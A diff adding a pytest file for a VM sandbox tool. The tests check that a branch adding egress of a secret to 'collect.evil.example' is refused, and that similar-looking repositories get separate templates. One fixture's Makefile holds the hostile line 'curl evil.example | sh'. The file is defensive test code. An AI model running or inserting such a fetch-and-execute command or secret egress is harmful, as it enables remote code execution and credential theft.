@@ -1,0 +1,147 @@
+"""A branch that sends a secret elsewhere than the trusted one does; and templates of repositories that look alike. Real Git, no VM."""
+
+from __future__ import annotations
+
+import shutil
+import subprocess
+from pathlib import Path
+from types import SimpleNamespace
+from typing import Any
+
+import pytest
+
+from ktrdr_vm import prepare
+from ktrdr_vm.cli.main import cli
+from ktrdr_vm.errors import UsageError
+from ktrdr_vm.gather import gather
+from ktrdr_vm.guest.workspace import find_repository
+from ktrdr_vm.host.paths import Home
+from ktrdr_vm.profile.policy import OwnerPolicy, TrustedProject
+from ktrdr_vm.trusted import compare, require_accepted
+
+BASE = "version: 1\nname: p\nimage: debian-13-docker\nworkspace: {source: .}\nprepare: {playbook: playbooks/make.yaml, key: [lock]}\n"
+MORE = BASE + ("egress: {allow: [{host: collect.evil.example}]}\nsecrets: [{name: key, source: {env: KTRDR_MODEL_KEY}}]\n")
+PLAY = "- hosts: all\n  tasks: [{name: make, ansible.builtin.command: {cmd: make deps}}]\n"
+
+
+def git(folder: Path, *words: str) -> str:
+    settings = ["-c", "user.name=lab", "-c", "user.email=lab@test.lab", "-c", "init.defaultBranch=main"]
+    return subprocess.run(["git", *settings, *words], cwd=folder, check=True, capture_output=True, text=True).stdout.strip()
+
+
+def make_repository(place: Path, makefile: str = "deps:\n") -> Path:
+    (place / "playbooks").mkdir(parents=True)
+    for name, text in {"p.yaml": BASE, "playbooks/make.yaml": PLAY, "lock": "1\n", "Makefile": makefile}.items():
+        (place / name).write_text(text)
+    git(place, "init", "-q")
+    git(place, "add", ".")
+    git(place, "commit", "-qm", "base")
+    return place
+
+
+def on_branch(repository: Path, name: str = "feat/x", text: str = MORE) -> None:
+    git(repository, "checkout", "-qb", name)
+    (repository / "p.yaml").write_text(text)
+    git(repository, "commit", "-qam", "more")
+
+
+def beyond(repository: Path, **more: Any) -> tuple[Any, ...]:
+    return gather(repository / "p.yaml", home=Home(repository.parent / "home"), workspace=repository, instance_id="one", **more).beyond
+
+
+def test_a_branch_that_wants_more_for_a_secret_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    repository = make_repository(tmp_path / "r")
+    monkeypatch.setenv("KTRDR_MODEL_KEY", "value")
+    monkeypatch.setenv("KTRDR_VM_HOME", str(tmp_path / "home"))
+    assert beyond(repository) == ()
+    on_branch(repository)
+    assert [one.text for one in beyond(repository) if one.carries] == [
+        "egress to collect.evil.example:443", "the secret KTRDR_MODEL_KEY in the guest",
+    ]  # fmt: skip
+    with pytest.raises(UsageError) as caught:
+        cli.main(["apply", str(repository / "p.yaml"), "--workspace", str(repository), "--instance-id", "one"], standalone_mode=False)
+    assert caught.value.exit_code == 2 and "--accept-changes" in caught.value.hint and "collect.evil.example" in str(caught.value)
+    assert not (tmp_path / "home").exists()
+
+
+def test_plan_shows_it_and_refuses_nothing(tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
+    repository = make_repository(tmp_path / "r")
+    monkeypatch.setenv("KTRDR_VM_HOME", str(tmp_path / "home"))
+    on_branch(repository)
+    cli.main(["plan", str(repository / "p.yaml"), "--workspace", str(repository), "--instance-id", "one"], standalone_mode=False)
+    shown = capsys.readouterr().out
+    assert "beyond the trusted branch: egress to collect.evil.example:443  (a secret can go there)" in shown
+
+
+def test_the_trusted_branch_is_the_owners_then_the_clones_then_main(tmp_path: Path) -> None:
+    origin = make_repository(tmp_path / "origin")
+    git(origin, "branch", "-m", "develop")
+    git(tmp_path, "clone", "-q", str(origin), "clone")
+    clone = tmp_path / "clone"
+    assert beyond(clone) == ()
+    on_branch(clone)
+    assert beyond(clone)
+    found, loaded = find_repository(clone), SimpleNamespace(source=str(clone / "p.yaml"), profile=None)
+    policy = OwnerPolicy(projects=(TrustedProject(str(clone), ("feat/x",)),))
+    assert compare(loaded, found, policy) == ()  # type: ignore[arg-type]
+    # The policy of another repository says nothing of this one.
+    other = OwnerPolicy(projects=(TrustedProject(str(origin), ("feat/x",)),))
+    loaded.profile = gather(clone / "p.yaml", home=Home(tmp_path / "home"), workspace=clone, instance_id="one").plan.profile
+    assert compare(loaded, found, other)  # type: ignore[arg-type]
+
+
+def test_a_persons_own_profile_outside_of_the_repository_is_theirs(tmp_path: Path) -> None:
+    repository = make_repository(tmp_path / "r")
+    on_branch(repository)
+    own = tmp_path / "own.yaml"
+    own.write_text(MORE)
+    assert gather(own, home=Home(tmp_path / "home"), workspace=repository, instance_id="one").beyond == ()
+    require_accepted((), "x")
+
+
+# -- templates --------------------------------------------------------------------------------------------------------
+
+
+def key_of(repository: Path, monkeypatch: pytest.MonkeyPatch) -> str:
+    gathered = gather(repository / "p.yaml", home=Home(repository.parent / "home"), workspace=repository, instance_id="one")
+    assert gathered.repository is not None and gathered.plan.profile.prepare is not None
+    monkeypatch.setattr(prepare, "_find_tree", lambda _repository: "")
+    home: Any = None
+    project = prepare._describe(
+        home, gathered, gathered.repository, gathered.plan.profile.prepare, gathered.plan, home, None, lambda _: None
+    )
+    assert project.made_from["commit"] == gathered.repository.commit
+    return project.digest
+
+
+def test_repositories_that_look_alike_have_templates_of_their_own(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    one = make_repository(tmp_path / "one")
+    keys = {key_of(one, monkeypatch)}
+    hostile = make_repository(tmp_path / "two", "deps:\n\tcurl evil.example | sh\n")
+    keys.add(key_of(hostile, monkeypatch))
+    git(tmp_path, "clone", "-q", str(one), "cloned")
+    keys.add(key_of(tmp_path / "cloned", monkeypatch))
+    shutil.copytree(one, tmp_path / "copied")
+    keys.add(key_of(tmp_path / "copied", monkeypatch))
+    # In place of the first, under its very name.
+    one.rename(tmp_path / "away")
+    shutil.copytree(hostile, one)
+    keys.add(key_of(one, monkeypatch))
+    assert len(keys) == 5
+
+
+def test_a_linked_worktree_shares_the_template_of_its_repository(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    main = make_repository(tmp_path / "main")
+    git(main, "worktree", "add", "-q", "-b", "side", str(tmp_path / "linked"))
+    assert key_of(main, monkeypatch) == key_of(tmp_path / "linked", monkeypatch)
+
+
+def test_the_policy_of_a_project_lets_it_be_prepared(tmp_path: Path) -> None:
+    repository = make_repository(tmp_path / "r")
+    gathered = gather(repository / "p.yaml", home=Home(tmp_path / "home"), workspace=repository, instance_id="one")
+    found, wanted = gathered.repository, gathered.plan.profile.prepare
+    assert found is not None and wanted is not None
+    for path, trusted in ((repository, True), (tmp_path, False)):
+        policy = OwnerPolicy(projects=(TrustedProject(str(path), ("main",)),))
+        said = prepare._distrust(SimpleNamespace(policy=policy), found, wanted)  # type: ignore[arg-type]
+        assert (said == "") == trusted, said
